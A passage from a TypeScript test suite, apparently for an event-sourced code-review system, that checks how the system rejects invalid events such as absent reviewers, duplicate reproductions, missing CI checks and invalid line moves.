        data: { round: 1, inputSha: sha('A'), expert: 'bob', reason: 'missing', detail: 'timed out' },
      };
      given(panel, captured(1, 'A'), absent)
        .whenMerged()
        .rejects(
          'no-contributions',
          /only absences are recorded \(bob: missing\).*record the round from one report/,
        );
    });
    it('every expected reviewer handed in or is absent', () => {
      given(panel, captured(1, 'A'), contributionRecorded(r1, 'ada'))
        .whenEvent(roundRecorded(r1, { result: 'partial' }))
        .rejects('expert-unaccounted', /expects bob/);
    });
    it('a round with an absent reviewer is partial', () => {
      const absent: DomainEvent = {
        type: 'contribution.absent',
        data: { round: 1, inputSha: sha('A'), expert: 'bob', reason: 'oversized', detail: 'over 4 MiB' },
      };
      given(panel, captured(1, 'A'), contributionRecorded(r1, 'ada'), absent)
        .whenEvent(roundRecorded(r1))
        .rejects('absent-reviewer', /bob: oversized/);
    });
  });

  describe('a re-review re-runs the reproductions first', () => {
    const repro = candidate({ reproduction: { command: 'npm test', expected: 'fails' } });
    const reproducible = [
      opened(),
      captured(1, 'A'),
      roundRecorded(report(1, 'A', { candidates: [repro, other] })),
      captured(2, 'B', { touched: [repro.file, other.file] }),
    ] as const;
    it('no-reproduction: an outcome for a finding that carries none', () => {
      given(...reproducible)
        .whenEvent(reproduced(2, 'B', idOf(other), 'still-fails'))
        .rejects('no-reproduction', /carries no reproduction/);
    });
    it('duplicate-reproduction: one outcome per finding and input', () => {
      given(...reproducible, reproduced(2, 'B', idOf(repro), 'still-fails'))
        .whenEvent(reproduced(2, 'B', idOf(repro), 'no-longer-fails'))
        .rejects('duplicate-reproduction', /already re-run on round 2's input/);
    });
    it('reproduction-still-fails: fixed is refused while the reproduction fails on this input', () => {
      given(...reproducible, reproduced(2, 'B', idOf(repro), 'still-fails'))
        .whenReport(report(2, 'B', { decisions: [decision(repro, 'fixed'), decision(other, 'open')] }))
        .rejects('reproduction-still-fails', /still fails/);
    });
  });

  describe("the project's CI checks, under a policy that requires some", () => {
    const waiting = [opened(CHECKED_POLICY), captured(1, 'A')] as const;
    it('missing-check: a required check not in the record, and not one that may be skipped', () => {
      given(...waiting)
        .whenEvent(checked(1, 'A', [{ name: 'docs', state: 'passed' }]))
        .rejects('missing-check', /required check\(s\) test not among the 1 check\(s\) recorded/);
    });
    it('checks-not-recorded: a report before its input has checks', () => {
      given(...waiting)
        .whenReport(report(1, 'A'))
        .rejects('checks-not-recorded', /no CI checks were recorded for round 1's input.*test, lint/);
    });
  });

  describe('a capture’s line moves', () => {
    it('a move that does not start where its open finding stands, in a touched file: invalid-move', () => {
      const id = idOf(major);
      const spec = given(...afterRound1);
      spec
        .whenEvent(captured(2, 'B', { touched: [major.file], moves: [{ id, from: 11, to: 21 }] }))
        .rejects('invalid-move', /from line 11, but it stands at line 10/);
      spec
        .whenEvent(captured(2, 'B', { touched: [other.file], moves: [{ id, from: 10, to: 20 }] }))
        .rejects('invalid-move', /did not touch its file "src\/service\.js"/);
    });
  });

  it('covers every rejection code (this test runs last)', () => {
    expect([...rejectionsSeen].sort()).toEqual([...REJECTION_CODES].sort());
  });
});
